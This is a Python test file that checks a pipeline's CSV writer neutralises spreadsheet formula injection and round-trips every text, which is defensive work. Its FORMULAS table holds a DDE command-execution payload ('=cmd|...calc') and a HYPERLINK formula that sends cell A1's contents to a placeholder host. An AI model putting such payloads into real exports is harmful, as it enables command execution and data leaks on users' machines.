"""Cells that a spreadsheet would run are neutral in CSV, and every text comes back as it was."""

from __future__ import annotations

import csv
import io
import re
import time

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from registration_pipeline.tables.csv_cells import CsvWriter, neutral_cell, plain_cell, read_rows

FORMULAS = {
    "equals sign": "=1+1",
    "plus": "+1",
    "minus": "-1+1",
    "at sign": "@SUM(A1)",
    "tab": "\t=1",
    "carriage return": "\r=1",
    "line feed": "\n=1",
    "another program": "=cmd|' /C calc'!A0",
    "web request": '=HYPERLINK("http://host/?x="&A1,"open")',
    "after a blank": " =1+1",
    "after a byte order mark": "\ufeff=1+1",
    "after a zero byte": "\x00=1+1",
    "after a quote": '"=1+1',
    "full-width": "\uff1d1+1",
    "after an apostrophe": "'=1+1",
    "after two apostrophes": "''=1+1",
}
SEPARATORS = ";\t\r\n"
STARTS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
texts = st.one_of(
    st.text(st.characters(exclude_categories=["Cs"])),
    st.text(st.sampled_from("=+-@\t\r\n;'\" ,a\uff1d\ufeff\u00a0\x00|"), max_size=12),
)


def starts_formula(cell: str) -> bool:
    """What a spreadsheet may do: drop blanks, quotes and what is not visible, then judge the first character."""
    visible = cell if cell[:1] in STARTS else re.sub(r"^[\s\"\x00-\x1f\x7f-\x9f\u200b-\u200f\u2060\ufeff]+", "", cell)
    return visible[:1] in STARTS and visible != ""


@pytest.mark.parametrize("text", FORMULAS.values(), ids=FORMULAS)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    assert neutral_cell(text) == f"'{text[:1]}" + neutral_cell(text[1:]) if text[0] in "\t\r\n" else f"'{text}"
    assert plain_cell(neutral_cell(text)) == text


@pytest.mark.parametrize("separator", list(SEPARATORS), ids=ascii)
def test_a_formula_behind_another_programs_separator_gets_one_as_well(separator: str) -> None:
    text = f"raw/a{separator}=1+1.jpg"
    assert neutral_cell(text).endswith("'=1+1.jpg")
    assert plain_cell(neutral_cell(text)) == text


@pytest.mark.parametrize("text", ["", "raw/a=1.jpg", "it's", "'quoted'", "a;b", "5", "a - b", "https://host/a?b=1"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert neutral_cell(text) == text


@given(text=texts)
@example(text="'")
@example(text="'='=")
@example(text=";';=")
def test_every_text_comes_back_and_none_starts_a_formula(text: str) -> None:
    cell = neutral_cell(text)
    assert plain_cell(cell) == text
    assert not any(starts_formula(part) for part in re.split(f"[{SEPARATORS}]", cell) if part)
    assert not starts_formula(cell)


@given(one=texts, other=texts)
def test_two_texts_never_become_the_same_cell(one: str, other: str) -> None:
    assert (neutral_cell(one) == neutral_cell(other)) == (one == other)


@given(rows=st.lists(st.tuples(texts, texts), max_size=4))
def test_every_row_of_a_file_comes_back(rows: list[tuple[str, str]]) -> None:
    file = io.StringIO(newline="")
    CsvWriter(file, ["one", "two"]).write(rows)
    read = list(read_rows(io.StringIO(file.getvalue(), newline="")))
    assert [(row["one"], row["two"]) for row in read] == rows
    raw = list(csv.reader(io.StringIO(file.getvalue(), newline="")))[1:]
    assert not any(starts_formula(cell) for row in raw for cell in row)


def test_numbers_and_empty_cells_are_not_texts() -> None:
    file = io.StringIO(newline="")
    CsvWriter(file, ["a", "b", "c"]).write([[-1, None, "-1"]])
    assert file.getvalue() == "a,b,c\r\n-1,,'-1\r\n"


@pytest.mark.parametrize("text", ["\t" * 200_000, "'" * 200_000 + "=", ";'" * 100_000], ids=["tabs", "quotes", "both"])
def test_long_cells_take_no_longer_than_their_length(text: str) -> None:
    began = time.process_time()
    assert plain_cell(neutral_cell(text)) == text
    assert time.process_time() - began < 5
